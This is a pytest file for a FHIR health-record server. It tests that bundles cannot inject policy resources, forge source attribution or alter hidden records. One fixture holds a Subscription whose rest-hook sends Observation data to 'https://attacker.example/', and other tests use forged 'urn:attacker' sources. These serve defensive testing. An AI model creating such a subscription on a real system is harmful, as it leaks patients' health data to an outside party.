"""A document brings what was found and done: no decision, no other system's word, nobody's identity."""

import base64
import json

import msgspec
import pytest

from salus.core.access import Action, Purpose, Role
from salus.core.clock import utc_now
from salus.core.errors import NotFound
from salus.store import persons
from salus.store.federation import Client, register_client
from salus.trust import tokens
from salus.trust.gate import enter
from salus.trust.policy import AccessRequest
from salus.web import mhd
from salus.web.emergency import face as emergency
from salus.web.fhir.face import face
from salus.web.portal.lookup import patient_of
from salus.web.restrictions import set_restricted

HOSPITAL, LABORATORY = "urn:hospital:a", "urn:laboratory:b"
NUMBER = {"system": "urn:mrn", "value": "ana"}
ANA = {
    "resourceType": "Patient", "birthDate": "1968-03-14", "gender": "female", "identifier": [NUMBER],
    "name": [{"family": "Martins"}],
}  # fmt: skip
URN = "urn:uuid:00000000-0000-4000-8000-00000000000"


def coded(code, system):
    return {"coding": [{"system": f"http://terminology.hl7.org/CodeSystem/{system}", "code": code}]}


DENIAL = {
    "resourceType": "Consent", "status": "active", "scope": coded("patient-privacy", "consentscope"),
    "category": [{"coding": [{"system": "http://loinc.org", "code": "59284-0"}]}],
    "policyRule": coded("OPTIN", "v3-ActCode"),
    "provision": {
        "type": "deny",
        "class": [{"system": "http://hl7.org/fhir/resource-types", "code": "Observation"}],
    },
}  # fmt: skip
POLICY = [
    DENIAL,
    {
        "resourceType": "Subscription", "status": "requested", "reason": "x",
        "criteria": "Observation?code=1",
        "channel": {"type": "rest-hook", "endpoint": "https://attacker.example/"},
    },
    {
        "resourceType": "SearchParameter", "url": "urn:x", "name": "x", "status": "active",
        "description": "x", "code": "xx", "base": ["Patient"], "type": "string",
        "expression": "Patient.name.family",
    },
    {"resourceType": "CodeSystem", "url": "urn:c", "status": "active", "content": "complete"},
]  # fmt: skip


def finding(value):
    return {"resourceType": "Observation", "status": "final", "code": {"text": "x"}, "valueString": value}


def document(*said, number=1, source="", patient=ANA):
    """Return a document; the third and later entries are always of the same names."""
    whose = {"reference": f"{URN}2"}
    said = [
        one | {"patient" if one["resourceType"] == "Consent" else "subject": whose}
        if one["resourceType"] in ("Consent", "Observation")
        else one
        for one in said
    ]
    first = {
        "resourceType": "Composition", "status": "final", "type": {"text": "letter"}, "subject": whose,
        "date": f"2026-11-{number + 10}", "author": [{"display": "Dr"}], "title": "t",
        "identifier": {"system": "urn:letters", "value": str(number)},
    }  # fmt: skip
    return {
        "resourceType": "Bundle",
        "type": "document",
        "identifier": {"system": "urn:d", "value": str(number)},
        "timestamp": f"2026-11-{number + 10}T10:00:00Z",
        "entry": [
            {"fullUrl": f"{URN}{place}", "resource": one}
            for place, one in enumerate((first, patient, *said), 1)
        ],
    } | ({"meta": {"source": source}} if source else {})


def described(bundle, source=""):
    data = base64.b64encode(json.dumps(bundle).encode()).decode()
    return {
        "resourceType": "DocumentReference",
        "status": "current",
        "subject": {"reference": "Patient/ana"},
        "content": [{"attachment": {"contentType": "application/fhir+json", "data": data}}],
    } | ({"meta": {"source": source}} if source else {})


@pytest.fixture
async def door(open_door):
    made = open_door(faces=(mhd.face, emergency, face))
    await made.operator("PUT", "/Patient/ana", ANA | {"id": "ana"})
    return made


async def found(door, query, **more):
    answer = (await door.operator("GET", query, **more)).json()
    return [entry["resource"] for entry in answer.get("entry", ())]


async def values(door):
    return [one.get("valueString") for one in await found(door, "/Observation")]


TOLD = {"prefer": "return=OperationOutcome"}


def told(answer):
    return answer.json()["issue"][0]["details"]["text"]


@pytest.mark.clause("EHDS 8")
@pytest.mark.parametrize("way", ["document", "ITI-105"])
@pytest.mark.parametrize("role", [Role.CLINICIAN, Role.OPERATOR])
async def test_what_decides_stays_in_the_document(door, way, role):
    who = {"role": role, "purpose": Purpose.OPERATIONS if role is Role.OPERATOR else Purpose.TREATMENT}
    bundle = document(finding("a"), *POLICY)
    path, sent = ("", bundle) if way == "document" else ("/DocumentReference", described(bundle))
    answer = await door("POST", path, sent, headers=TOLD, **who)
    assert answer.status_code == 201, answer.text
    for policy in POLICY:
        assert not await found(door, f"/{policy['resourceType']}")
        assert f"{policy['resourceType']} was not taken out of it" in told(answer)
    assert await values(door) == ["a"]
    if way == "ITI-105":
        assert (await door("GET", "/Observation?patient=ana")).json()["total"] == 1
    (kept,) = await found(door, "/DocumentReference")
    whole = await door.operator("GET", "/" + kept["content"][0]["attachment"]["url"])
    assert whole.content == json.dumps(bundle).encode()


async def test_a_system_has_taken_out_what_it_may_record_by_itself(door):
    system = {"role": Role.APP, "purpose": Purpose.OPERATIONS}
    bundle = document(finding("a"), DENIAL)
    narrow = ("system/DocumentReference.crs",)
    answer = await door(
        "POST", "/DocumentReference", described(bundle), headers=TOLD, scopes=narrow, **system
    )
    assert answer.status_code == 201, answer.text
    assert not await values(door)
    assert not await found(door, "/Consent")
    assert "Observation was not taken out of it" in told(answer)
    own = DENIAL | {"patient": {"reference": "Patient/ana"}}
    everything = {"scopes": ("system/*.cruds", "system/Consent.cruds")}
    assert (await door("POST", "/Consent", own, **everything, **system)).status_code == 403
    wider = (*narrow, "system/Observation.c", "system/Composition.c")
    again = described(document(finding("b"), number=2))
    assert (await door("POST", "/DocumentReference", again, scopes=wider, **system)).status_code == 201
    assert await values(door) == ["b"]
    changed = described(document(finding("c"), number=3))
    assert (await door("POST", "/DocumentReference", changed, scopes=wider, **system)).status_code == 201
    assert await values(door) == ["b"]  # it may create, and not change


@pytest.mark.parametrize("way", ["document", "ITI-105"])
async def test_another_systems_name_is_a_claim(door, way):
    hospital = {"role": Role.OPERATOR, "purpose": Purpose.OPERATIONS}
    await door("POST", "/DocumentReference", described(document(finding("true")), HOSPITAL), **hospital)
    bundle = document(finding("forged"), number=2, source=HOSPITAL, patient=ANA | {"gender": "male"})
    if way == "ITI-105":
        bundle = document(finding("forged"), number=2)
        answer = await door("POST", "/DocumentReference", described(bundle, HOSPITAL))
    else:
        answer = await door("POST", "", bundle)
    assert answer.status_code == 201, answer.text
    assert sorted(await values(door)) == ["forged", "true"]
    sources = {one["meta"]["source"]: one["valueString"] for one in await found(door, "/Observation")}
    assert sources == {HOSPITAL: "true", "urn:salus:client:s-1#urn%3Ahospital%3Aa": "forged"}
    assert (await door.operator("GET", "/Patient/ana")).json()["gender"] == "female"


async def test_a_client_speaks_for_the_sources_of_its_registration(door, database):
    scopes = ("system/*.cruds",)
    client = Client("lab", "Laboratory", [], scopes, sources=(LABORATORY,))
    await register_client(database, client, now=utc_now())
    caller = door.make_caller(
        Role.APP, purpose=Purpose.OPERATIONS, subject="lab", scopes=scopes, organisation="Laboratory"
    )
    services = door.services
    token = tokens.issue(services.keys.token, caller, services.terms, now=services.clock(), client="lab")
    for number, source in enumerate((LABORATORY, HOSPITAL), 1):
        sent = described(document(finding(source), number=number), source)
        headers = {"authorization": f"Bearer {token}"}
        assert (await door("POST", "/DocumentReference", sent, headers=headers)).status_code == 201
    sources = {one["meta"]["source"] for one in await found(door, "/Observation")}
    assert sources == {LABORATORY, "urn:salus:client:lab#urn%3Ahospital%3Aa"}


@pytest.mark.clause("EHDS 8")
async def test_what_is_hidden_from_the_sender_stays_as_it_is(door):
    first = await door("POST", "/DocumentReference", described(document(finding("a"))))
    (kept,) = await found(door, "/Observation")
    citizen = door.make_caller(Role.CITIZEN, patient="ana", subject="ana")
    await set_restricted(door.services, citizen, "Observation", kept["id"], hidden=True)
    second = await door("POST", "/DocumentReference", described(document(finding("b"), number=2)))
    assert (first.status_code, second.status_code) == (201, 201)
    mine = (await door.citizen("GET", f"/Observation/{kept['id']}", patient="ana")).json()
    assert (mine["valueString"], mine["meta"]["versionId"]) == ("a", kept["meta"]["versionId"])
    assert (await door("GET", f"/Observation/{kept['id']}")).status_code == 404


async def test_a_patient_out_of_a_document_is_nobody_until_staff_confirm(door):
    for number in (1, 2):
        bundle = document(finding("x"), number=number, source=f"urn:attacker:{number}")
        assert (await door("POST", "", bundle)).status_code == 201
    others = [one for one in await found(door, "/Patient") if one["id"] != "ana"]
    assert len(others) == 2
    assert {label["code"] for one in others for label in one["meta"]["security"]} == {"PATAST"}
    clinician, operator = door.make_caller(), door.make_caller(Role.OPERATOR)
    assert await patient_of(door.services, clinician, "urn:mrn|ana") == "ana"
    summary = await door("GET", "/Patient/$summary?identifier=urn:mrn|ana")
    assert summary.status_code == 200, summary.text
    asked = AccessRequest(Action.UPDATE, "Patient", "Patient")
    async with enter(door.services.gatehouse, operator, asked) as access:
        key = door.services.keys.search
        await persons.confirm(access.grant, door.services.database, others[0]["id"], key=key)
    with pytest.raises(NotFound):
        await patient_of(door.services, clinician, "urn:mrn|ana")


async def test_an_emergency_offers_everybody_of_an_identifier(door):
    await door.operator("PUT", "/Patient/rui", ANA | {"id": "rui"})
    refused = await claimed(door, {"identifier": "urn:mrn|ana", "reason": "unconscious"})
    assert refused.status_code == 409
    assert "ana" in refused.text
    assert "rui" in refused.text
    nobody = await claimed(door, {"identifier": "urn:mrn|nobody", "reason": "unconscious"})
    assert nobody.status_code == 404


async def claimed(door, asked):
    headers = {"authorization": f"Bearer {door.token()}", "content-type": "application/json"}
    body = msgspec.json.encode(asked)
    return await door.client.request("POST", "https://node.test/emergency", content=body, headers=headers)
